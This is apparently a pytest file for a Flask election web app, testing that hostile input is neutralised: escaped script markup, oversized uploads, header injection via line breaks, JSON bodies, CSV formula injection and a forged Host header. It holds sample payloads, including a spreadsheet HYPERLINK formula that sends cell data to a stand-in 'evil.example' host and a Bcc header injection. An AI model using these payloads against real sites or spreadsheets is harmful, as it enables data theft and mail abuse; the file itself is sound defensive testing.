"""Hostile values, one case each: stored markup shown as text, an upload past the size limit,
whitespace and line breaks, JSON bodies, spreadsheet formulas in CSV downloads, a forged Host.

The sweep over every form of the URL map is in test_hostile_input.py; these tests show
that the values it posts really are stored, and cover what a generic sweep cannot.
"""
import csv
import io
import os
import threading

import pytest
import requests
from flask import url_for
from werkzeug.serving import make_server

from eo_cc import clock

from .cc.fake_cc import LIST_ID
from .factories import (ADMIN_PASSWORD, make_election, make_voters, organisation_of, put_ballot,
                        wait_for_background_mail)
from .test_hostile_input import IMG, MARKERS, SCRIPT, csv_file, fill, is_voter_route, sign_in_voter, world  # noqa: F401

# --- markup that is stored comes back as text ---

ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"


def post_election(client, world):
    client.post("/elections/new", data={"title": SCRIPT, "description": IMG})
    return "elections.list_elections", {}


def post_question(client, world):
    client.post(f"/elections/{world['election_id']}/questions/new",
                data={"prompt": SCRIPT, "choices": f"{SCRIPT}\n{IMG}", "max_choices": "1"})
    return "questions.index", {"election_id": world["election_id"]}


def post_voter(client, world):
    client.post(f"/elections/{world['election_id']}/roster/add",
                data={"email": "markup@example.org", "name": SCRIPT})
    return "roster.show", {"election_id": world["election_id"]}


def post_roster(client, world):
    client.post(f"/elections/{world['election_id']}/roster/upload",
                data={"file": csv_file(f"email,name\nupload@example.org,{SCRIPT}\n")})
    return "roster.show", {"election_id": world["election_id"]}


def post_roster_file_name(client, world):
    client.post(f"/elections/{world['election_id']}/roster/upload",
                data={"file": csv_file("email\nnamed@example.org\n", f"{SCRIPT}.csv")})
    return "elections.audit_log", {"election_id": world["election_id"]}


def post_list_choice(client, world):
    """The list's name comes from Constant Contact: hostile data from outside, too."""
    client.post(f"/elections/{world['election_id']}/integration/list", data={"list_id": LIST_ID})
    return "cc.settings", {"election_id": world["election_id"]}


@pytest.mark.parametrize("post", [post_election, post_question, post_voter, post_roster,
                                  post_roster_file_name, post_list_choice], ids=lambda f: f.__name__)
def test_stored_markup_is_shown_as_text(app, client, world, post):
    endpoint, args = post(client, world)
    with app.test_request_context():
        page = client.get(url_for(endpoint, **args)).get_data(as_text=True)
    assert ESCAPED in page  # stored, and shown escaped
    assert not any(marker in page for marker in MARKERS)


def test_question_markup_is_text_on_the_voters_ballot(app, db, admin, client):
    election = make_election(db, admin, questions=[(SCRIPT, [SCRIPT, IMG], 1)])
    voter = make_voters(db, election, count=1, secret_key=app.config["SECRET_KEY"])[0]
    slug = db["elections"].get(election)["slug"]
    voter_client = app.test_client()
    sign_in_voter(voter_client, {"voter_id": voter, "slug": slug})
    page = voter_client.get(f"/vote/{slug}/ballot").get_data(as_text=True)
    assert page.count(ESCAPED) >= 2  # the legend and a choice's label
    assert not any(marker in page for marker in MARKERS)


def test_question_markup_is_text_on_the_results_page(app, db, admin, client):
    election_id = make_election(db, admin, state="closed", questions=[(SCRIPT, [SCRIPT, IMG], 1)])
    page = client.get(f"/elections/{election_id}/results").get_data(as_text=True)
    assert page.count(ESCAPED) >= 2  # the question's caption and a choice's row
    assert not any(marker in page for marker in MARKERS)

# --- an upload past MAX_CONTENT_LENGTH ---

@pytest.mark.parametrize("csrf", [False, True], ids=["csrf-off", "csrf-on"])
def test_a_20_mb_roster_upload_is_refused_with_a_clear_413_and_nothing_imported(app, db, world, client,
                                                                               csrf):
    app.config["WTF_CSRF_ENABLED"] = csrf  # on, the CSRF check is the first to read the body
    limit = app.config["MAX_CONTENT_LENGTH"]
    assert limit == 16 * 1024 * 1024
    row = b"someone@example.org,Some One\n"
    body = b"email,name\n" + row * (20 * 1024 * 1024 // len(row))
    before = db.execute("SELECT COUNT(*) FROM voters").fetchone()[0]
    response = client.post(f"/elections/{world['election_id']}/roster/upload",
                           data={"file": (io.BytesIO(body), "huge.csv")})
    assert response.status_code == 413
    page = response.get_data(as_text=True)
    assert "File too large" in page and f"at most {limit // (1024 * 1024)} MB" in page
    assert db.execute("SELECT COUNT(*) FROM voters").fetchone()[0] == before
    assert not db.execute("SELECT 1 FROM audit_log WHERE action = 'imported roster'").fetchall()



def test_a_20_mb_roster_upload_over_real_http_gets_the_413_page_not_a_reset_connection(app, db, admin):
    """The server answers before reading the body; the browser must still receive the page."""
    election_id = make_election(db, admin, state="draft", opens_in_hours=5)
    server = make_server("127.0.0.1", 0, app, threaded=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        base = f"http://127.0.0.1:{server.port}"
        session = requests.Session()
        session.post(f"{base}/auth/login", data={"email": "ada@example.org", "password": ADMIN_PASSWORD})
        body = b"email,name\n" + b"someone@example.org,Some One\n" * (20 * 1024 * 1024 // 29)
        response = session.post(f"{base}/elections/{election_id}/roster/upload",
                                files={"file": ("big.csv", body)}, timeout=30)
    finally:
        server.shutdown()
    assert response.status_code == 413 and "at most 16 MB" in response.text
    assert db["voters"].count == 0

# --- whitespace and line breaks where one line of text belongs ---

@pytest.mark.parametrize("title", ["   ", "\t\r\n", "\u00a0\u2003"], ids=["spaces", "breaks", "unicode-spaces"])
def test_a_title_of_only_whitespace_is_refused(client, admin, db, title):
    response = client.post("/elections/new", data={"title": title})
    assert response.status_code == 200
    assert "This field is required." in response.get_data(as_text=True)
    assert db["elections"].count == 0


def test_a_question_of_only_whitespace_is_refused(client, db, world):
    before = db["questions"].count
    response = client.post(f"/elections/{world['election_id']}/questions/new",
                           data={"prompt": " \r\n ", "choices": "Yes\nNo", "max_choices": "1"})
    assert response.status_code == 200 and "This field is required." in response.get_data(as_text=True)
    assert db["questions"].count == before


def test_line_breaks_posted_in_a_title_are_stored_as_one_line(client, admin, db):
    client.post("/elections/new", data={"title": "Board\r\nBcc: evil@example.org"})
    assert [e["title"] for e in db["elections"].rows] == ["Board Bcc: evil@example.org"]


def test_a_title_with_a_line_break_does_not_stop_the_announcement(app, db, admin, client):
    """A title stored before titles were kept to one line: its mail still goes out, one Subject line."""
    election_id = make_election(db, admin, state="draft", opens_in_hours=5,
                                title="Board\r\nBcc: evil@example.org")
    make_voters(db, election_id, count=2, secret_key=app.config["SECRET_KEY"])
    client.post(f"/elections/{election_id}/open")
    assert db["mail_queue"].count == 0  # nothing left unsendable
    outbox = os.path.join(app.instance_path, "outbox")
    headers = []
    for name in os.listdir(outbox):
        with open(os.path.join(outbox, name), encoding="utf-8") as f:
            headers.append(f.read().split("\n\n", 1)[0])
    assert len(headers) == 2
    for header in headers:
        assert "Subject: Voting is open: Board Bcc: evil@example.org" in header.splitlines()
        assert "\nBcc:" not in header


def test_an_election_posted_without_a_description_field_is_created(client, admin, db):
    """A scripted client may leave out an optional field altogether."""
    response = client.post("/elections/new", data={"title": "Board election"})
    assert response.status_code == 302
    assert [(e["title"], e["description"]) for e in db["elections"].rows] == [("Board election", "")]


@pytest.mark.parametrize("body", [{"title": 5}, {"title": ["a", {"b": 1}]}, ["title"], "title"],
                         ids=["number", "list-with-object", "array", "string"])
def test_a_json_body_posted_to_a_form_is_a_bad_request(client, admin, db, body):
    response = client.post("/elections/new", json=body)
    assert response.status_code == 400 and "Bad request" in response.get_data(as_text=True)
    assert db["elections"].count == 0


# --- spreadsheet formulas in CSV downloads ---

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_no_csv_download_starts_a_cell_with_a_formula(app, db, admin, client, requests_mock):
    """Names, labels and emails typed by admins or voters open as text in a spreadsheet."""
    election_id = make_election(db, admin, state="closed", title=FORMULA, cc_list_id="list-1",
                                questions=[(FORMULA, ["=1+1", "+1", "-1", "@SUM(A1)"], 1)])
    voter_id = make_voters(db, election_id, count=1, secret_key=app.config["SECRET_KEY"])[0]
    db["voters"].update(voter_id, {"name": FORMULA, "email": "=1+1@example.org", "voter_code": "=V1",
                                   "has_voted": 1})
    choice = db.execute("SELECT MIN(c.id) FROM choices c JOIN questions q ON q.id = c.question_id "
                        "WHERE q.election_id = ?", [election_id]).fetchone()[0]
    put_ballot(db, election_id, [choice], receipt="ABCDEFGHJKLM")
    now = clock.iso()
    db["cc_removals"].insert({"election_id": election_id, "email": "=1+1@example.org",
                              "state": "not_in_list", "queued_at": now, "updated_at": now})
    db["cc_list_checks"].insert({"election_id": election_id, "list_id": "list-1", "checked_at": now})
    db["cc_list_differences"].insert({"election_id": election_id, "kind": "missing", "name": FORMULA,
                                      "email": "=1+1@example.org", "updated_at": now})
    values = {"election_id": election_id, "slug": "x", "voter_id": voter_id, "voter_pk": voter_id,
              "token": "t", "question_id": 1, "reminder_id": 1, "direction": "up", "filename": "style.css",
              "organisation_id": organisation_of(db, admin), "member_id": admin, "invitation_id": 1,
              "invitation_token": "t"}
    downloads = 0
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.endpoint == "static" or is_voter_route(rule):
            continue
        for query in ("", "?filter=voted"):
            response = client.get(fill(rule, values) + query)
            if response.mimetype != "text/csv":
                continue
            downloads += 1
            cells = [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")))
                     for cell in row]
            assert "'=1+1@example.org" in cells or "'=1+1" in cells, rule.rule  # the values are there
            starts = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
            assert starts == [], f"{rule.rule}{query} starts cells with a formula: {starts}"
    assert downloads >= 4


# --- a forged Host header ---

def test_a_forged_host_header_cannot_redirect_a_voters_new_ballot_link(app, db, admin):
    """Anyone may ask for a voter's new link; the mail must point at this site, not the asker's Host."""
    election_id = make_election(db, admin)
    make_voters(db, election_id, count=1, secret_key=app.config["SECRET_KEY"])
    slug = db["elections"].get(election_id)["slug"]
    client = app.test_client()
    response = client.post(f"/vote/{slug}/forgot", data={"email": "voter1@example.org"},
                           headers={"Host": "evil.example"})
    assert response.status_code == 302
    wait_for_background_mail()
    outbox = os.path.join(app.instance_path, "outbox")
    (name,) = os.listdir(outbox)
    with open(os.path.join(outbox, name), encoding="utf-8") as f:
        mail = f.read()
    assert "evil.example" not in mail
    assert f"{app.config['BASE_URL']}/vote/{slug}/link/" in mail
